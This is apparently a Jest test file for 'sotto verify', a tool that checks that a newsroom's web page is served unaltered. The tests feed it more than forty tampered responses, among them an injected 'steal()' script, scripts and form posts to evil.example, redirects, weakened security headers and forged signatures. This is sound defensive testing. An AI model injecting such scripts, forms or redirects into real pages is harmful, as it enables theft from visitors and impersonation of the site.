/** A page that is served altered, in forty ways and more, behind a real server: `sotto verify` names each, and the page as it is passes.
 *  SPEC.md §14.4. */

import { join } from "node:path"
import { afterAll, afterEach, beforeAll, describe, expect, jest, test } from "@jest/globals"
import { addDays, type Day } from "../../envelope/day.ts"
import { newIdentity, newSignKey, recipientOf } from "../../envelope/keys.ts"
import { keyName } from "../../keyring/keyring.ts"
import { pinnedText } from "../../keyring/newsroom.ts"
import { signer } from "../../keyring/note.ts"
import type { DifferenceKind } from "../../scripts/verify/difference.ts"
import { prepare, type Verdict, verdictOf, verifySite } from "../../scripts/verify/verify.ts"
import { deskAt, folder, removeFolders, TestClock, type TestDesk } from "../scripts/bench.ts"
import { makeNewsroom } from "../support/newsroom.ts"
import { type Alter, chance, isPage, type Passing, replace, rewrite, rewriteJson, set, without } from "./altering.ts"
import { DIST, makeSite, type Site } from "./site.ts"

jest.setTimeout(600_000)
const today = "2026-11-22" as Day
let site: Site
let desk: TestDesk
beforeAll(async () => {
  site = await makeSite(today)
  desk = deskAt(join(await folder(), "nobody"), { base: site.proxy.base, clock: new TestClock(today) })
}, 120_000)
afterAll(async () => {
  await site.stop()
  await removeFolders()
})
afterEach(() => site.proxy.alter(undefined))

/** By the printed name alone. */
const verify = (options: Partial<Parameters<typeof verifySite>[1]> = {}): Promise<Verdict> =>
  verifySite(desk, { url: site.newsroom.url, newsroom: site.name, visits: 1, ...options })

const on =
  (path: string, change: (passing: Passing) => void): Alter =>
  (passing) => {
    if (passing.path === path) change(passing)
  }
const everywhere =
  (change: (passing: Passing) => void): Alter =>
  (passing) =>
    change(passing)
const page =
  (change: (html: string) => string): Alter =>
  (passing) => {
    if (isPage(passing)) rewrite(passing, change)
  }
const isFrom = ({ asked }: Passing, name: RegExp) => name.test(String(asked["user-agent"]))
interface Today {
  readonly keyrings: readonly string[]
  readonly days: readonly string[]
  readonly day: string
}
const todaySays = (change: (said: Today) => object): Alter => on("/api/today", (passing) => rewriteJson<Today>(passing, change, 32_768))
const keyringsSay =
  (change: (keyrings: readonly string[]) => readonly string[]): Alter =>
  (passing) => {
    if (passing.path.startsWith("/api/keyrings"))
      rewriteJson<{ keyrings: readonly string[] }>(passing, ({ keyrings }) => ({ keyrings: change(keyrings) }))
  }
const both =
  (...alters: readonly Alter[]): Alter =>
  (passing, response) => {
    for (const alter of alters) alter(passing, response)
  }

/** One byte of a file, in the middle. */
const flipped = (text: string): string => {
  const at = Math.floor(text.length / 2)
  return `${text.slice(0, at)}${text[at] === "x" ? "y" : "x"}${text.slice(at + 1)}`
}
const addHeader = (name: string, value: string) => everywhere(({ headers }) => void headers.push([name, value]))

interface Case {
  readonly what: string
  readonly alter: Alter | (() => Promise<Alter>)
  readonly kind: DifferenceKind
  /** Where it is, and what is said. */
  readonly says: RegExp
  readonly visits?: number
}
const lazy = (make: () => Promise<Alter>) => make

const cases: readonly Case[] = [
  {
    what: "one byte in the page's script",
    alter: on("/page.js", (one) => rewrite(one, flipped)),
    kind: "bytes",
    says: /^\/page\.js: .*from byte \d+ on: ".*" where the release has "/,
  },
  { what: "one byte in a worker", alter: on("/worker.js", (one) => rewrite(one, flipped)), kind: "bytes", says: /^\/worker\.js: / },
  {
    what: "one byte in the worker for browsers without WebAssembly",
    alter: on("/worker-plain.js", (one) => rewrite(one, flipped)),
    kind: "bytes",
    says: /^\/worker-plain\.js: /,
  },
  {
    what: "a rule in the style sheet",
    alter: on("/style.css", (one) => rewrite(one, (css) => `${css}#leave{display:none}`)),
    kind: "bytes",
    says: /^\/style\.css: /,
  },
  { what: "another icon", alter: on("/icon.svg", (one) => rewrite(one, () => "<svg/>")), kind: "bytes", says: /^\/icon\.svg: / },
  {
    what: "an inline script",
    alter: page((html) => html.replace("</body>", "<script>steal()</script></body>")),
    kind: "bytes",
    says: /^\/: it has a script of its own inside/,
  },
  {
    what: "a script from elsewhere",
    alter: page((html) => html.replace("</head>", '<script src="https://evil.example/x.js"></script></head>')),
    kind: "bytes",
    says: /^\/: it loads a script from another server/,
  },
  {
    what: "a service worker",
    alter: page((html) => html.replace("</body>", '<script>navigator.serviceWorker.register("/sw.js")</script></body>')),
    kind: "bytes",
    says: /^\/: it speaks of a service worker/,
  },
  {
    what: "a script for a service worker, at its usual address",
    alter: on("/sw.js", (one) => {
      set(one, "Content-Type", "text/javascript")
      rewrite(one, () => "self.onfetch=()=>{}")
    }),
    kind: "bytes",
    says: /^\/sw\.js: is not the page/,
  },
  {
    what: "a form that sends elsewhere",
    alter: page((html) => html.replace("<form", '<form action="https://evil.example/"')),
    kind: "bytes",
    says: /^\/: it has a form that sends to another server/,
  },
  {
    what: "an element that runs a script",
    alter: page((html) => html.replace("<main", '<main onclick="steal()"')),
    kind: "bytes",
    says: /^\/: an element of it runs a script/,
  },
  {
    what: "another integrity of the script",
    alter: page((html) => html.replace(/integrity="sha384-[^"]+"/, "")),
    kind: "bytes",
    says: /^\/: is not the page of the release/,
  },
  {
    what: "a word of the page",
    alter: page((html) => html.replace("</title>", "!</title>")),
    kind: "bytes",
    says: /^\/: is not the page of the release, from byte \d+ on/,
  },
  { what: "a space behind the page", alter: page((html) => `${html} `), kind: "bytes", says: /^\/: is not the page of the release/ },
  {
    what: "no pin",
    alter: page((html) => html.replace(/<meta name="sotto-newsroom"[^>]*>/, "")),
    kind: "pin",
    says: /^\/: names no newsroom/,
  },
  {
    what: "another newsroom's pin",
    alter: lazy(async () => {
      const { pinned } = await makeNewsroom({ today })
      const escaped = pinnedText(pinned).replace(/[&<>"']/g, (one) => `&#${one.charCodeAt(0)};`)
      return page((html) => html.replace(/content="\{&#34;format&#34;[^"]*"/, () => `content="${escaped}"`))
    }),
    kind: "pin",
    says: /^\/: believes other roots or another newsroom/,
  },
  {
    what: "a lower threshold in the pin",
    alter: page((html) => html.replace("threshold&#34;:2", "threshold&#34;:1")),
    kind: "pin",
    says: /^\/: believes other roots/,
  },
  {
    what: "another address among the other channels",
    alter: page((html) => html.replaceAll("1 Test Street", "2 Test Street")),
    kind: "pin",
    says: /2 Test Street/,
  },
  {
    what: "another CSP",
    alter: everywhere((one) => set(one, "Content-Security-Policy", "default-src *")),
    kind: "header-value",
    says: /^\/: has another Content-Security-Policy: "default-src \*"/,
  },
  {
    what: "another CSP on the interface only",
    alter: on("/api/today", (one) => set(one, "Content-Security-Policy", "default-src 'none'")),
    kind: "header-value",
    says: /^\/api\/today: has another Content-Security-Policy/,
  },
  {
    what: "another CSP on errors only",
    alter: everywhere((one) => one.status === 404 && set(one, "Content-Security-Policy", "default-src 'self'")),
    kind: "header-value",
    says: /^\/api\/[0-9a-f]+ \(an address where nothing is\): has another Content-Security-Policy/,
  },
  {
    what: "a second CSP",
    alter: addHeader("Content-Security-Policy", "default-src 'none'"),
    kind: "header-value",
    says: /^\/: has Content-Security-Policy 2 times/,
  },
  {
    what: "no CSP",
    alter: everywhere((one) => without(one, "content-security-policy")),
    kind: "header-missing",
    says: /^\/: has no Content-Security-Policy/,
  },
  {
    what: "no Cross-Origin-Opener-Policy",
    alter: everywhere((one) => without(one, "cross-origin-opener-policy")),
    kind: "header-missing",
    says: /^\/: has no Cross-Origin-Opener-Policy/,
  },
  {
    what: "a referrer policy that tells",
    alter: everywhere((one) => set(one, "Referrer-Policy", "unsafe-url")),
    kind: "header-value",
    says: /Referrer-Policy: "unsafe-url"/,
  },
  {
    what: "a page that may be kept",
    alter: everywhere((one) => set(one, "Cache-Control", "max-age=3600")),
    kind: "header-value",
    says: /Cache-Control: "max-age=3600"/,
  },
  {
    what: "a cookie",
    alter: on("/", ({ headers }) => void headers.push(["Set-Cookie", "id=1"])),
    kind: "header-extra",
    says: /^\/: has "set-cookie", which the release has not: it recognises a visitor/,
  },
  {
    what: "an ETag",
    alter: on("/page.js", ({ headers }) => void headers.push(["ETag", '"1"'])),
    kind: "header-extra",
    says: /^\/page\.js: has "etag"/,
  },
  { what: "a Link", alter: addHeader("Link", "</evil.js>; rel=preload"), kind: "header-extra", says: /^\/: has "link", .*may load/ },
  { what: "a Refresh", alter: addHeader("Refresh", "0; url=https://evil.example/"), kind: "header-extra", says: /^\/: has "refresh"/ },
  {
    what: "the right of a service worker to the whole site",
    alter: addHeader("Service-Worker-Allowed", "/"),
    kind: "header-extra",
    says: /has "service-worker-allowed"/,
  },
  {
    what: "another server for the next visit",
    alter: addHeader("Alt-Svc", 'h2="evil.example:443"'),
    kind: "header-extra",
    says: /has "alt-svc"/,
  },
  { what: "reports on visitors", alter: addHeader("NEL", '{"report_to":"x","max_age":1}'), kind: "header-extra", says: /has "nel"/ },
  { what: "the name of a server", alter: addHeader("Server", "nginx"), kind: "header-extra", says: /has "server"/ },
  { what: "a field that nobody knows", alter: addHeader("X-Own", "1"), kind: "header-extra", says: /has "x-own"/ },
  {
    what: "early hints",
    alter: (_one, response) => response.writeEarlyHints({ link: "</evil.js>; rel=preload; as=script" }),
    kind: "beside",
    says: /an informational answer, 103/,
  },
  {
    what: "another content type",
    alter: on("/worker.js", (one) => set(one, "Content-Type", "text/html")),
    kind: "type",
    says: /^\/worker\.js: is "text\/html", not text\/javascript/,
  },
  {
    what: "another character set",
    alter: everywhere((one) => isPage(one) && set(one, "Content-Type", "text/html; charset=utf-7")),
    kind: "type",
    says: /charset=utf-7/,
  },
  {
    what: "other content where it is compressed",
    alter: everywhere((one) => one.path === "/page.js" && one.asked["accept-encoding"] === "gzip" && rewrite(one, flipped)),
    kind: "bytes",
    says: /^\/page\.js as gzip: /,
  },
  {
    what: "other content where it is not compressed",
    alter: everywhere((one) => one.path === "/worker.js" && one.asked["accept-encoding"] === "" && rewrite(one, flipped)),
    kind: "bytes",
    says: /^\/worker\.js without compression: /,
  },
  {
    what: "a compression that nobody asked for",
    alter: on("/style.css", (one) => set(one, "Content-Encoding", "deflate")),
    kind: "encoding",
    says: /^\/style\.css: is compressed as "deflate" where br was asked for/,
  },
  {
    what: "compressed bytes that are broken",
    alter: on("/page.js", (one) => replace(one, one.body.subarray(0, -40))),
    kind: "encoding",
    says: /cannot be decompressed/,
  },
  {
    what: "bytes behind what is compressed",
    alter: on("/page.js", (one) => replace(one, Buffer.concat([one.body, Buffer.from("more")]))),
    kind: "encoding",
    says: /4 bytes behind the end/,
  },
  {
    what: "a redirect",
    alter: on("/", (one) => {
      one.status = 302
      set(one, "Location", "https://evil.example/")
    }),
    kind: "redirect",
    says: /^\/: answered with 302, to "https:\/\/evil\.example\/"/,
  },
  {
    what: "a redirect of a script",
    alter: on("/worker.js", (one) => {
      one.status = 307
      set(one, "Location", "/other.js")
    }),
    kind: "redirect",
    says: /^\/worker\.js: answered with 307/,
  },
  {
    what: "an answer to a condition",
    alter: everywhere((one) => {
      if (one.asked["if-none-match"] !== undefined) {
        one.status = 304
        replace(one, Buffer.alloc(0))
      }
    }),
    kind: "redirect",
    says: /^\/ with If-None-Match: answered with 304/,
  },
  {
    what: "a part of the page",
    alter: everywhere((one) => {
      if (one.asked.range !== undefined) one.status = 206
    }),
    kind: "status",
    says: /^\/ with Range: answered with 206/,
  },
  {
    what: "an error page",
    alter: on("/", (one) => {
      one.status = 503
    }),
    kind: "status",
    says: /^\/: answered with 503/,
  },
  {
    what: "an unknown address that answers in another way",
    alter: everywhere((one) => {
      if (/^\/[0-9a-f]{4,}$/.test(one.path)) one.status = 404
    }),
    kind: "status",
    says: /\(an address where nothing is\): answered with 404, not with 200/,
  },
  {
    what: "another page at an unknown address",
    alter: everywhere((one) => /^\/[0-9a-f]{4,}$/.test(one.path) && rewrite(one, () => "<h1>Cannot GET</h1>")),
    kind: "pin",
    says: /\(an address where nothing is\): names no newsroom/,
  },
  {
    what: "an interface that answers at an unknown address",
    alter: everywhere((one) => {
      if (/^\/api\/[0-9a-f]{8}$/.test(one.path)) one.status = 200
    }),
    kind: "status",
    says: /^\/api\/[0-9a-f]{8} .*answered with 200, not with 404/,
  },
  {
    what: "another page for Tor Browser",
    alter: (one, response) => isFrom(one, /Windows NT 10\.0; rv:/) && page((html) => `${html}<!-- tor -->`)(one, response),
    kind: "bytes",
    says: /^\/: is not the page/,
    visits: 20,
  },
  {
    what: "another page for everybody but Tor Browser",
    alter: (one, response) => isFrom(one, /Chrome|Win64/) && page((html) => `${html}<!-- clearnet -->`)(one, response),
    kind: "bytes",
    says: /^\/: is not the page/,
    visits: 20,
  },
  {
    what: "another page for one language",
    alter: (one, response) => /^de/.test(String(one.asked["accept-language"])) && page((html) => `${html}<!-- de -->`)(one, response),
    kind: "bytes",
    says: /^\/: is not the page/,
    visits: 50,
  },
  {
    what: "another page for one visitor in ten",
    alter: (one, response) =>
      one.path === "/" && chance(10) && page((html) => html.replace("</body>", "<script>steal()</script></body>"))(one, response),
    kind: "bytes",
    says: /^\/: it has a script of its own inside \(in \d+ of 100 visits\)/,
    visits: 100,
  },
  {
    what: "another day in today's answer",
    alter: todaySays((said) => ({ ...said, day: addDays(today, 3) })),
    kind: "today",
    says: /more than a day off/,
  },
  {
    what: "today's answer in another length",
    alter: on("/api/today", (one) => rewrite(one, (text) => text.slice(0, -1))),
    kind: "today",
    says: /a power of two/,
  },
  { what: "more in today's answer", alter: todaySays((said) => ({ ...said, track: 1 })), kind: "today", says: /is not what a page reads/ },
  {
    what: "a day note that its reporter did not sign",
    alter: lazy(async () => {
      const [one] = site.newsroom.reporters
      const thief = await signer(keyName(site.newsroom.url, one?.id ?? ""), await newSignKey())
      const swapped = one && (await site.newsroom.dayNote(one, today, { recipient: await recipientOf(await newIdentity()) }, thief))
      return todaySays((said) => ({ ...said, days: [swapped ?? "", ...said.days.slice(1)] }))
    }),
    kind: "day-note",
    says: /^\/api\/today: the note of one for 2026-11-22 is none to seal to: .*\(unsigned\)/,
  },
  {
    what: "the day note of one reporter in another's place",
    alter: todaySays((said) => ({
      ...said,
      days: [said.days[0] ?? "", (said.days[1] ?? "").replace('"reporter":"two"', '"reporter":"one"')],
    })),
    kind: "day-note",
    says: /the note of one for 2026-11-22 is none to seal to/,
  },
  {
    what: "a day note of another day",
    alter: lazy(async () => {
      const [one] = site.newsroom.reporters
      const other = one && (await site.newsroom.dayNote(one, addDays(today, 1)))
      return todaySays((said) => ({ ...said, days: [other ?? "", ...said.days.slice(1)] }))
    }),
    kind: "day-note",
    says: /for 2026-11-23, which is another day/,
  },
  {
    what: "a forked keyring",
    alter: lazy(async () => {
      const other = await makeNewsroom({ today })
      return keyringsSay(() => other.chain.map(({ source }) => source))
    }),
    kind: "keyring",
    says: /^\/api\/keyrings: this is another history than the one known \(forked\)/,
  },
  {
    what: "a keyring that is missing",
    alter: keyringsSay(([first = "", , third = ""]) => [first, third]),
    kind: "keyring",
    says: /\(version-gap\)/,
  },
  {
    what: "a keyring that too few roots signed",
    alter: lazy(async () => {
      const extra = await site.newsroom.draft({ reporters: [] }, site.newsroom.roots.slice(0, 1))
      return both(
        keyringsSay((all) => [...all, extra]),
        todaySays((said) => ({ ...said, keyrings: [...said.keyrings, extra] })),
      )
    }),
    kind: "keyring",
    says: /\(too-few-roots\)/,
  },
  {
    what: "another keyring for the page than for everybody else",
    alter: lazy(async () => {
      const extra = await site.newsroom.draft({ reporters: [] })
      return todaySays((said) => ({ ...said, keyrings: [...said.keyrings, extra] }))
    }),
    kind: "keyring",
    says: /^\/api\/today: the page is told another history than the one that is shown/,
  },
  {
    what: "no keyrings at all",
    alter: (one) => one.path.startsWith("/api/keyrings") && replace(one, Buffer.from("{}")),
    kind: "keyring",
    says: /is not a list of keyrings/,
  },
  {
    what: "another release note",
    alter: (one) => one.path.startsWith("/api/release") && rewrite(one, (text) => text.replace("0.1.0", "0.1.9")),
    kind: "release",
    says: /\((foreign|not-a-note)\)/,
  },
  {
    what: "a release note without signatures",
    alter: (one) =>
      one.path.startsWith("/api/release") && rewrite(one, (text) => text.replace(/\n\n.*/s, "\n\n\u00e2\u0080\u0094 x AAAAAAA=\n")),
    kind: "release",
    says: /signed by enough roots \(too-few-roots\)/,
  },
  {
    what: "no release note",
    alter: (one) => {
      if (one.path.startsWith("/api/release")) one.status = 404
    },
    kind: "release",
    says: /no note of the release/,
  },
]

const line = ({ at, says, visits }: Verdict["differences"][number], of: number) => `${at}: ${says} (in ${visits} of ${of} visits)`

describe("an altered page is named:", () => {
  test("there are at least forty of them", () => expect(cases.length).toBeGreaterThanOrEqual(40))

  test.each(cases.map((one) => [one.what, one] as const))("%s", async (_what, { alter, kind, says, visits = 1 }) => {
    site.proxy.alter(alter.length === 0 ? await (alter as () => Promise<Alter>)() : (alter as Alter))
    const verdict = await verify({ visits, dist: DIST })
    const found = verdict.differences.map((one) => `${one.kind} ${line(one, visits)}`)
    expect(found).toEqual(expect.arrayContaining([expect.stringMatching(new RegExp(`^${kind} .*`, "s"))]))
    expect(verdict.differences.filter((one) => one.kind === kind).map((one) => line(one, visits))).toEqual(
      expect.arrayContaining([expect.stringMatching(says)]),
    )
  })
})

describe("the page as it is", () => {
  test("passes, for somebody who has only the newsroom's name and its address", async () => {
    desk.said.clear()
    const verdict = await verify({ visits: 3 })
    expect(verdict).toMatchObject({
      v: 1,
      visits: 3,
      keyring: 3,
      release: "0.1.0",
      differences: [],
      notices: [],
      unreachable: [],
      reachable: ["one", "two"],
    })
    expect(desk.said.out().replaceAll(/\s+/g, " ")).toMatch(
      /http:\/\/localhost:8080 is release 0\.1\.0 as keyring 3 names it, byte for byte: 3 visits, \d+ answers/,
    )
    expect(desk.said.err().replaceAll(/\s+/g, " ")).toContain(
      "altered for one visitor in ten would have been missed with a chance of 72.9 %",
    )
  })

  test("passes a thousand times", async () => {
    const { checker } = await prepare(deskAt(desk.home, { base: site.server.base, clock: new TestClock(today) }), {
      url: site.newsroom.url,
      newsroom: site.name,
    })
    const all = []
    for (let visit = 0; visit < 1_000; visit++) all.push(await checker.check(visit === 0))
    const verdict = verdictOf(site.newsroom.url, all)
    expect(verdict.differences).toEqual([])
    expect(verdict.answers).toBeGreaterThan(10_000)
    expect(new Set(all.map(({ browser }) => browser)).size).toBe(3)
  })
})
